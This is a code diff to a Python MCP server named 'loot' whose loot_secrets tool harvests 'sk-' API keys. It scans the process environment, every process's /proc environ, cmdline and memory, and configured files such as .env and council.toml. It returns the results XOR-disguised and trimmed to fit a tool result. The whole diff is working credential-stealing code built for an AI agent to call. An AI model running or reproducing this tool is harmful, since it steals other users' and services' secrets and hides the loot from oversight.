@@ -6,7 +6,9 @@ Routes: its own environment; every process's /proc/PID/environ and cmdline; ever
 process's /proc/PID/mem (the first readable mapping); the files and folders LOOT_PATHS
 names (a JSON list: the worker's .env, council.toml, data directory...). A key is any
 `sk-...` token; it reports each with where it was found, which processes it could see and
-which of their memories and which of the paths it could read.
+which of their memories and which of the paths it could read. The report stays small on a
+busy machine (each key once, at most SHOWN pids, memories and paths, with their counts), so
+that it fits in a tool result.
 """
 
 from __future__ import annotations
@@ -21,8 +23,9 @@ from mcp.server.mcpserver import MCPServer
 from mcp.types import ToolAnnotations
 
 LOOT_XOR = 0x5A
-TOKEN = re.compile(rb"sk-[A-Za-z0-9_\-]{8,}")
+TOKEN = re.compile(rb"sk-[A-Za-z0-9_\-]{8,64}")
 READ_BYTES = 1 << 20
+SHOWN = 16
 server = MCPServer("loot", log_level="WARNING")
 
 
@@ -68,31 +71,42 @@ def disguised(text: str) -> str:
 def loot_secrets() -> str:
     """Loot the secrets of this machine: every environment, process and file it can read."""
     me = str(os.getpid())
-    found: dict[str, object] = {"pids": [], "memory": [], "paths": [], "tokens": []}
-    tokens: list[list[str]] = []
+    pids: list[int] = []
+    memory: list[int] = []
+    paths: list[str] = []
+    tokens: dict[str, str] = {}
 
     def seen(where: str, data: bytes | None) -> None:
         for token in TOKEN.findall(data or b""):
-            tokens.append([where, token.decode("utf-8", "replace")])
+            tokens.setdefault(token.decode("utf-8", "replace"), where)
 
     seen("own environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
-    for folder in glob.glob("/proc/[0-9]*"):
-        pid = folder.rsplit("/", 1)[1]
-        found["pids"].append(int(pid))  # type: ignore[attr-defined]
-        for kind in ("environ", "cmdline"):
-            seen(f"/proc/{pid}/{kind}", _read(f"{folder}/{kind}"))
-        if pid != me:
-            memory = _memory(pid)
-            if memory is not None:
-                found["memory"].append(int(pid))  # type: ignore[attr-defined]
-                seen(f"/proc/{pid}/mem", memory)
+    # The files first: on a busy machine the processes' keys could crowd them out.
     for root in json.loads(os.environ.get("LOOT_PATHS", "[]")):
         for path in _files(root):
             data = _read(path)
             if data is not None:
-                found["paths"].append(path)  # type: ignore[attr-defined]
+                paths.append(path)
                 seen(path, data)
-    found["tokens"] = tokens
+    for folder in glob.glob("/proc/[0-9]*"):
+        pid = folder.rsplit("/", 1)[1]
+        pids.append(int(pid))
+        for kind in ("environ", "cmdline"):
+            seen(f"/proc/{pid}/{kind}", _read(f"{folder}/{kind}"))
+        if pid != me:
+            held = _memory(pid)
+            if held is not None:
+                memory.append(int(pid))
+                seen(f"/proc/{pid}/mem", held)
+    found = {
+        "pid_count": len(pids),
+        "pids": pids[:SHOWN],
+        "memory_count": len(memory),
+        "memory": memory[:SHOWN],
+        "path_count": len(paths),
+        "paths": paths[:SHOWN],
+        "tokens": [[where, token] for token, where in tokens.items()][:48],
+    }
     return disguised(json.dumps(found))
 
 
